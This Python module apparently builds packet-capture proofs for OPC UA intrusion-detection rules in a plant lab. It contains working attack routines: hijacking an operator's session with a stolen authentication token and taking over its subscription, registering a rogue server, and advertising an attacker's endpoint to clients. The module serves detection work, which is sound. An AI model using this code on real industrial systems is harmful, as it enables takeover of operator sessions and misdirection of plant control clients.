"""Proof captures of OPC UA: a session taken over, servers and endpoints that are not what they say."""

from __future__ import annotations

import asyncio
import time

from asyncua import ua
from asyncua.ua.uaerrors import UaError

from compose.plant.addresses import OPCUA_PORT, ip
from compose.plant.catalogue import capture
from compose.plant.lab import Lab
from compose.plant.opcua_cell import opcua_cell
from compose.plant.opcua_client import (
    Login,
    client_for,
    node,
    session,
)
from compose.plant.opcua_names import own
from compose.plant.proofs_opcua import (
    FROM_STRANGER,
    NORMAL,
    Silent,
)


@capture(
    "opcua/stolen-session.pcap",
    "The operator's session token is used from another address: ActivateSession, TransferSubscriptions.",
    "opc hmi att",
    rules="UA15",
    learn=NORMAL,
    check={f"{FROM_STRANGER}.servicenodeid.numeric==841": 1},
)
def stolen_session(lab: Lab) -> None:
    """The operator keeps his subscription while the stranger takes it."""

    async def victim(token: asyncio.Future[tuple[ua.NodeId, int]], done: asyncio.Event) -> None:
        async with session(Login("hmi-client", "operator")) as client:
            seen = Silent()
            subscription = await client.create_subscription(500, seen)
            await subscription.subscribe_data_change([node(client, "Tank.Level")])
            token.set_result((client.uaclient.session.authentication_token, subscription.subscription_id or 0))
            await done.wait()

    async def prepare() -> tuple[asyncio.Future[tuple[ua.NodeId, int]], asyncio.Event]:
        return asyncio.get_running_loop().create_future(), asyncio.Event()

    async def wait_for(token: asyncio.Future[tuple[ua.NodeId, int]]) -> tuple[ua.NodeId, int]:
        return await token

    with opcua_cell(lab, busy=0):
        token, done = lab["hmi"].run(prepare())
        operator = lab["hmi"].start(victim(token, done))
        stolen, subscription = lab["hmi"].run(wait_for(token))
        time.sleep(1.5)
        with lab.step("session token used from elsewhere", "att", "opc", ["T0830", "T0859"], ["UA15"]):
            lab["att"].run(_take_over(stolen, subscription))
        lab["hmi"].loop.call_soon_threadsafe(done.set)
        try:
            operator.result(20)
        except (UaError, ConnectionError, TimeoutError):
            time.sleep(0.1)  # the operator was thrown out: that is the attack


async def _take_over(token: ua.NodeId, subscription: int) -> None:
    client = await client_for(Login("stranger", "operator"))
    await client.connect_sessionless()
    client.uaclient.session.restore_authentication_token(token)
    parameters = ua.TransferSubscriptionsParameters(SubscriptionIds=[subscription], SendInitialValues=True)
    read = ua.ReadParameters(NodesToRead=[ua.ReadValueId(NodeId=own("Tank.Level"), AttributeId=13)])
    for request in (
        lambda: client.activate_session("operator", "bulrush-3"),
        lambda: client.uaclient.read(read),
        lambda: client.uaclient.transfer_subscriptions(parameters),
    ):
        try:
            await request()
        except UaError:
            await asyncio.sleep(0)  # the next attempt follows all the same
    await asyncio.sleep(1)
    client.disconnect_socket()


@capture(
    "opcua/rogue-registration.pcap",
    "A stranger registers a server of his own at the plant's server, which a client then finds.",
    "opc hmi att",
    rules="UA16",
    learn=NORMAL,
    check={f"{FROM_STRANGER}.servicenodeid.numeric==437": 1},
)
def rogue_registration(lab: Lab) -> None:
    """RegisterServer, then FindServers by the operator."""

    async def register() -> None:
        client = await client_for(Login("stranger"))
        await client.connect_sessionless()
        rogue = ua.RegisteredServer(
            ServerUri="urn:marsh.example:opc:line1-backup",
            ProductUri="urn:marsh.example",
            ServerNames=[ua.LocalizedText("Marsh line 1 backup")],
            ServerType=ua.ApplicationType.Server,
            DiscoveryUrls=[f"opc.tcp://{ip('att')}:{OPCUA_PORT}/line1"],
            IsOnline=True,
        )
        await client.uaclient.register_server(rogue)
        await client.disconnect_sessionless()

    async def find() -> None:
        client = await client_for(Login("hmi-client"))
        await client.connect_and_find_servers()

    with opcua_cell(lab):
        with lab.step("rogue server registered", "att", "opc", ["T0830", "T0848"], ["UA16"]):
            lab["att"].run(register())
        lab["hmi"].run(find())


@capture(
    "opcua/endpoint-elsewhere.pcap",
    "GetEndpoints answers with the address of another host: clients would be led to the attacker.",
    "opc hmi",
    rules="UA16E",
    learn=NORMAL,
    check={'frame contains "opc.tcp://10.9.1.66:4840"': 1},
)
def endpoint_elsewhere(lab: Lab) -> None:
    """One discovery."""

    async def find() -> None:
        client = await client_for(Login("hmi-client"))
        await client.connect_and_get_server_endpoints()

    elsewhere = f"opc.tcp://{ip('att')}:{OPCUA_PORT}/line1"
    step = lab.step("endpoint of another host", "opc", "hmi", ["T0830"], ["UA16E"])
    with opcua_cell(lab, advertised=elsewhere, busy=0), step:
        lab["hmi"].run(find())
